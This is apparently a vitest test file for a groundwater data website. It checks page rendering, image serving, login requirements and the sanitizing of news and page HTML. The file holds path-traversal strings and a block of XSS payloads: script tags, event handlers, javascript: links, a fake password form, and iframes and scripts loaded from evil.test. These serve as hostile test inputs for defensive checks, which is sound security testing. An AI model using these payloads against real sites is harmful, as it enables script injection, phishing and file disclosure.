import { mkdtemp, readFile, rm, writeFile, mkdir } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { readNews, readSitePage, sitePageNames } from '@wellfield/contract';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { builtInSiteDir } from '../../config/config.ts';
import { refused, success } from '../../testing/api-client.ts';
import { copySite } from '../../testing/copy-site.ts';
import { rawRequest } from '../../testing/raw-request.ts';
import { startServer, type TestServer } from '../../testing/start-server.ts';

let server: TestServer;
let token: string;
beforeAll(async () => {
  server = await startServer();
  token = await server.api.register('pages@example.org');
});
afterAll(() => server[Symbol.asyncDispose]());

const page = async (name: string) => success(readSitePage, await server.api.get(`/api/pages/${name}`, token)).html;

describe('the pages of the built-in site', () => {
  test('[OVR-01] the overview names the data providers and shows the picture of the site, with alternative text', async () => {
    const html = await page('overview');
    const written = await readFile(join(builtInSiteDir, 'pages/overview.md'), 'utf8');
    const [, alternative, source] = /!\[([^\]]{20,})\]\((\/site\/images\/[^)]+)\)/.exec(written) ?? [];
    expect(html).toContain(`src="${source}"`);
    expect(html).toContain(`alt="${alternative}"`);
    expect(html).toMatch(/<h2>Data providers<\/h2>/);
    for (const provider of ['Sandhill Trust', 'Wash Water Agency']) expect(html).toContain(provider);
    const image = await server.api.get(source ?? '', token);
    expect([image.status, image.headers.get('content-type')]).toEqual([200, 'image/svg+xml']);
    expect(image.text).toBe(await readFile(join(builtInSiteDir, 'images', source?.split('/').at(-1) ?? ''), 'utf8'));
  });

  test('[OVR-02] the history has the perchlorate series as a table and links to the agency', async () => {
    const html = await page('history');
    expect(html).toMatch(/<table>[^]*Perchlorate[^]*<td[^>]*>1997<\/td>\s*<td[^>]*>580<\/td>/);
    expect(html).toContain('<a href="https://ndep.nv.gov/" target="_blank" rel="noopener noreferrer">');
  });

  test('[OVR-03] the how-to has a section for every screen', async () => {
    const html = await page('howto');
    for (const screen of [
      'Standardized GW Locations',
      'Parameter Table',
      'Query Data',
      'View Data',
      'Map',
      'Account',
      'Datasets',
      'Report a Bug',
    ]) {
      expect(html, screen).toMatch(new RegExp(`<h2>[^<]*${screen}`));
    }
    expect(html).toContain('four more');
  });

  test('any other page: 404, and no file', async () => {
    for (const name of ['site', '..%2fsite', '..%2f..%2fsite.json', 'overview.md', '__proto__', 'OVERVIEW', '%00']) {
      expect(refused(await server.api.get(`/api/pages/${name}`, token)).status, name).toBe(404);
    }
  });
});

test.each(['../site.json', '..%2fsite.json', '%2e%2e%2fsite.json', '..%5csite.json', '%2fetc%2fpasswd', 'none.svg'])(
  '[A10] /site/images/%s: 404, no bytes',
  async (name) => {
    const answer = await rawRequest(server.origin, `/site/images/${name}`, {
      headers: { authorization: `Bearer ${token}` },
    });
    expect(answer.status).toBe(404);
    expect(JSON.parse(answer.text)).toMatchObject({ success: false });
  },
);

const hostile = `<h2 onclick="alert(1)" style="position:fixed" id="page" class="x">News</h2>
<script>alert(2)</script><script src="https://evil.test/x.js"></script>
<img src=x onerror=alert(3)><img src="https://evil.test/pixel.png"><img src="/site/images/../../api/logout" alt="">
<img src="/site/images/site.svg" onload="alert(4)" alt="The site">
<svg><script>alert(5)</script></svg><math><mtext><style><img src=x onerror=alert(6)></style></mtext></math>
<form action="https://evil.test/"><input name="password" type="password"><button>Log in</button></form>
<iframe src="https://evil.test/"></iframe><object data="https://evil.test/"></object><embed src="https://evil.test/">
<base href="https://evil.test/"><meta http-equiv="refresh" content="0;url=https://evil.test/"><link rel="stylesheet" href="https://evil.test/x.css">
<a href="javascript:alert(7)">a</a><a href="java&#10;script:alert(8)">b</a><a href="data:text/html,<script>alert(9)</script>">c</a>
<a href="//evil.test/">d</a><a href="/\\evil.test/" target="_top">e</a>
<a href="https://example.org/" rel="opener" target="_parent">out</a><a href="/query" target="_blank">in</a>
<p>kept <b>text</b></p>`;

test('[OVR-05] [A15] news and pages contain no script, handler, form or remote content, and their links open safely', async () => {
  const folder = await mkdtemp(join(tmpdir(), 'wellfield-pages-'));
  try {
    await copySite(builtInSiteDir, join(folder, 'site'));
    await writeFile(join(folder, 'site/news.html'), hostile);
    await writeFile(
      join(folder, 'site/pages/history.md'),
      `# History\n\n[x](javascript:alert(1)) ![y](https://evil.test/y.png)\n\n${hostile}`,
    );
    await mkdir(join(folder, 'site/images'), { recursive: true });
    for (const name of ['Plan 2.JPG', 'Größe.gif', 'notes.html'])
      await writeFile(join(folder, 'site/images', name), 'x');
    await using other = await startServer({ environment: { SITE_DIR: join(folder, 'site') } });
    const reader = await other.api.register('reader@example.org');
    const news = success(readNews, await other.api.get('/api/whats_new', reader)).data;
    const history = success(readSitePage, await other.api.get('/api/pages/history', reader)).html;
    for (const html of [news, history]) {
      expect(html).not.toMatch(
        /<(script|style|form|input|button|iframe|object|embed|base|meta|link|svg|math)\b|\bon\w+=|javascript|data:|alert\(|evil\.test\/(x|pixel|y)|<[^>]*\b(id|class|style)=/i,
      );
      expect(html.match(/<img [^>]*>/g)).toEqual(['<img src="/site/images/site.svg" alt="The site" />']);
      expect(html).toContain('<a href="https://example.org/" target="_blank" rel="noopener noreferrer">out</a>');
      expect(html).toContain('<a href="/query">in</a>');
      for (const link of html.match(/<a [^>]*evil[^>]*>/g) ?? []) expect(link).toContain('rel="noopener noreferrer"');
      expect(html).toContain('<p>kept <b>text</b></p>');
    }
    // A picture is recognized by its ending, in any case.
    for (const [name, answered] of [
      ['Plan 2.JPG', [200, 'image/jpeg']],
      ['Größe.gif', [200, 'image/gif']],
      ['notes.html', [404, 'application/json; charset=utf-8']],
    ] as const) {
      const { status, headers } = await other.api.get(`/site/images/${encodeURIComponent(name)}`, reader);
      expect([status, headers.get('content-type')], name).toEqual(answered);
    }
  } finally {
    await rm(folder, { recursive: true });
  }
});

test('[NAV-13] pages, news and pictures are for accounts only, unless the site’s overview is public', async () => {
  const targets = [...sitePageNames.map((name) => `/api/pages/${name}`), '/api/whats_new', '/site/images/site.svg'];
  for (const target of targets) expect(refused(await server.api.get(target)).status, target).toBe(401);
  await using open = await startServer({ site: { publicOverview: true } });
  for (const target of targets) {
    const { status, headers } = await open.api.get(target);
    expect(status, target).toBe(200);
    expect(headers.get('content-security-policy'), target).toContain("default-src 'none'");
  }
  expect((await open.api.post('/api/report_bug', { email: 'a@b.c', name: 'x', message: 'y' })).status).toBe(401);
});
